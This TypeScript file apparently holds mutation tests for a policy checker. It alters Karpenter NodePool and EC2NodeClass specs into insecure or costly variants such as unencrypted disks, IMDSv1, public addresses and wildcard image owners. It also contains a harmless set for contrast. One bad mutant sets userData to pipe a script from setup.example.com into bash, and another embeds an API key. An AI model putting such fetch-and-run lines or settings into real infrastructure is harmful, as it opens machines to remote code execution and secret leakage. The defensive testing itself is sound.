import { kubernetes, type StackMutant } from "./mutant.ts";

const pool = (name: string) => kubernetes("platform", "karpenter.sh/v1:NodePool", name);
const machines = (name: string) => kubernetes("platform", "karpenter.k8s.aws/v1:EC2NodeClass", `${name}-class`);
const TRAINING = pool("training");
const INFERENCE = pool("inference");
const MACHINES = machines("training");

const template = (edit: (spec: any, metadata: any) => void) => (inputs: any) =>
  edit(inputs.spec.template.spec, inputs.spec.template.metadata);

/** Pools of machines, and what a machine is. */
export const POOLS: readonly StackMutant[] = [
  TRAINING.bad("a pool without a limit", ({ spec }) => {
    delete spec.limits;
  }),
  TRAINING.bad("a pool with a limit of CPUs in place of GPUs", ({ spec }) => {
    spec.limits = { cpu: "100000" };
  }),
  TRAINING.bad("a pool with a limit in thousands", ({ spec }) => {
    spec.limits["nvidia.com/gpu"] = "64k";
  }),
  pool("cpu").bad("a pool of CPUs without a limit", ({ spec }) => {
    spec.limits = {};
  }),
  TRAINING.bad(
    "a pool of GPUs without a taint",
    template((spec) => {
      delete spec.taints;
    }),
  ),
  INFERENCE.bad(
    "a pool of GPUs whose taint only advises",
    template((spec) => {
      spec.taints[0].effect = "PreferNoSchedule";
    }),
  ),
  INFERENCE.bad(
    "a pool of GPUs with the taint of something else",
    template((spec) => {
      spec.taints[0].key = "example.com/gpu";
    }),
  ),
  TRAINING.bad("training that is moved while it runs", ({ spec }) => {
    spec.disruption.consolidationPolicy = "WhenEmptyOrUnderutilized";
    spec.disruption.budgets = [{ nodes: "100%" }];
  }),
  TRAINING.bad("training whose machines drift away at once", ({ spec }) => {
    spec.disruption.budgets = [{ nodes: "100%" }];
  }),
  TRAINING.bad("empty machines that stay", ({ spec }) => {
    spec.disruption.consolidateAfter = "Never";
  }),
  TRAINING.bad("empty machines that stay for a day", ({ spec }) => {
    spec.disruption.consolidateAfter = "24h";
  }),
  INFERENCE.bad(
    "machines that never get a new image",
    template((spec) => {
      spec.expireAfter = "Never";
    }),
  ),
  INFERENCE.bad(
    "machines whose pods hold them for ever",
    template((spec) => {
      delete spec.terminationGracePeriod;
    }),
  ),
  INFERENCE.bad(
    "models on machines that AWS takes back",
    template((spec) => {
      spec.requirements[1].values = ["spot"];
    }),
  ),
  TRAINING.bad(
    "machines of any kind",
    template((spec) => {
      spec.requirements = spec.requirements.slice(1);
    }),
  ),
  TRAINING.bad(
    "machines of every kind but one",
    template((spec) => {
      spec.requirements[0] = { key: "node.kubernetes.io/instance-type", operator: "NotIn", values: ["t3.micro"] };
    }),
  ),
  TRAINING.bad(
    "machines without GPUs in a pool of GPUs",
    template((spec) => {
      spec.requirements[0].values = ["m7i.48xlarge"];
    }),
  ),
  TRAINING.bad(
    "machines that the region does not have",
    template((spec) => {
      spec.requirements[0].values = ["p4de.24xlarge"];
    }),
  ),
  pool("cpu").bad(
    "a pool of machines of another class",
    template((spec) => {
      spec.nodeClassRef.name = "gone";
    }),
  ),
  MACHINES.bad("machines with the old metadata service", ({ spec }) => {
    spec.metadataOptions.httpTokens = "optional";
  }),
  machines("cpu").bad("machines whose pods reach the metadata service", ({ spec }) => {
    spec.metadataOptions.httpPutResponseHopLimit = 2;
  }),
  MACHINES.bad("machines with an open disk", ({ spec }) => {
    spec.blockDeviceMappings[0].ebs.encrypted = false;
  }),
  MACHINES.bad("machines with an open disk, as text", ({ spec }) => {
    spec.blockDeviceMappings[0].ebs.encrypted = "false";
  }),
  machines("cpu").bad("machines with the disk of their image", ({ spec }) => {
    delete spec.blockDeviceMappings;
  }),
  machines("cpu").bad("disks that stay behind", ({ spec }) => {
    spec.blockDeviceMappings[0].ebs.deleteOnTermination = false;
  }),
  MACHINES.bad("machines with the newest image, whichever that is", ({ spec }) => {
    spec.amiSelectorTerms = [{ alias: "al2023@latest" }];
  }),
  MACHINES.bad("machines with somebody's image", ({ spec }) => {
    spec.amiSelectorTerms = [{ name: "gpu-*", owner: "*" }];
  }),
  MACHINES.bad("machines with a public address", ({ spec }) => {
    spec.associatePublicIPAddress = true;
  }),
  MACHINES.bad("machines in the public subnets", ({ spec }) => {
    spec.subnetSelectorTerms = [{ tags: { "kubernetes.io/role/elb": "1" } }];
  }),
  MACHINES.bad("machines in every group of the account", ({ spec }) => {
    spec.securityGroupSelectorTerms = [{ tags: { Name: "*" } }];
  }),
  machines("inference").bad("machines that start with a secret", ({ spec }) => {
    spec.userData = "#!/bin/bash\nexport WANDB_API_KEY=q7Rk9sLw2mXvB4tZq7Rk9sLw2mXvB4tZ\n";
  }),
  machines("inference").bad("machines that start with a program of somebody", ({ spec }) => {
    spec.userData = "#!/bin/bash\ncurl -s http://setup.example.com/run.sh | bash\n";
  }),
  machines("cpu").bad("machines that nobody pays for", ({ spec }) => {
    delete spec.tags;
  }),
  machines("cpu").bad("machines with the role of the node controller", ({ spec }) => {
    spec.role = "millrace-prod-karpenter-controller-55a14ca";
  }),

  TRAINING.harmless("a limit as a number", ({ spec }) => {
    spec.limits["nvidia.com/gpu"] = 64;
  }),
  TRAINING.harmless("a limit of CPUs too", ({ spec }) => {
    spec.limits.cpu = "1536";
  }),
  TRAINING.harmless("empty machines that go after half an hour, in minutes", ({ spec }) => {
    spec.disruption.consolidateAfter = "30m";
  }),
  TRAINING.harmless("empty machines that go at once", ({ spec }) => {
    spec.disruption.consolidateAfter = "60s";
  }),
  INFERENCE.harmless(
    "machines that are renewed each week",
    template((spec) => {
      spec.expireAfter = "168h";
    }),
  ),
  INFERENCE.harmless(
    "one more label of machines",
    template((_, metadata) => {
      metadata.labels["example.com/owner"] = "platform";
    }),
  ),
  pool("cpu").harmless(
    "demands on machines in another order",
    template((spec) => spec.requirements.reverse()),
  ),
  MACHINES.harmless("machines with a larger disk", ({ spec }) => {
    spec.blockDeviceMappings[0].ebs.volumeSize = "1Ti";
  }),
  MACHINES.harmless("machines with one more tag", ({ spec }) => {
    spec.tags.purpose = "training";
  }),
  MACHINES.harmless("machines by the tag of their subnets", ({ spec }) => {
    spec.subnetSelectorTerms = [{ tags: { "karpenter.sh/discovery": "millrace-prod" } }];
  }),
  // Karpenter's default asks for sessions and stops at the machine (EC2NodeClass, `spec.metadataOptions`).
  machines("inference").harmless("machines with the metadata service as Karpenter sets it", ({ spec }) => {
    delete spec.metadataOptions;
  }),
  machines("cpu").harmless("machines that say that they have no public address", ({ spec }) => {
    spec.associatePublicIPAddress = false;
  }),
];
